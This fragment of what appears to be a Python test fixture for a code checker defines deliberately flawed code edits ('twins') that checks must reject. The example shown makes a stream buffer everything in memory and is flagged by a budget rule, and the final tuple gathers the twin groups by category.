        "memory that grows with the stream",
        "r2",
        (
            Edit(
                "remote.py",
                "            async for chunk in chunks:\n                yield chunk\n",
                "            held = [chunk async for chunk in chunks]\n"
                "        for chunk in held:\n            yield chunk\n",
            ),
        ),
        "budget",
        ("BUDGET103",),
    ),
)  # fmt: skip

TWINS: tuple[Twin, ...] = (
    *_PACKAGE, *_EFFECTS, *_DETERMINISM, *_CONTRACT, *_INJECTION, *_POLICY, *_BUDGET,
)  # fmt: skip
"""Every twin, by the check that must refuse it."""
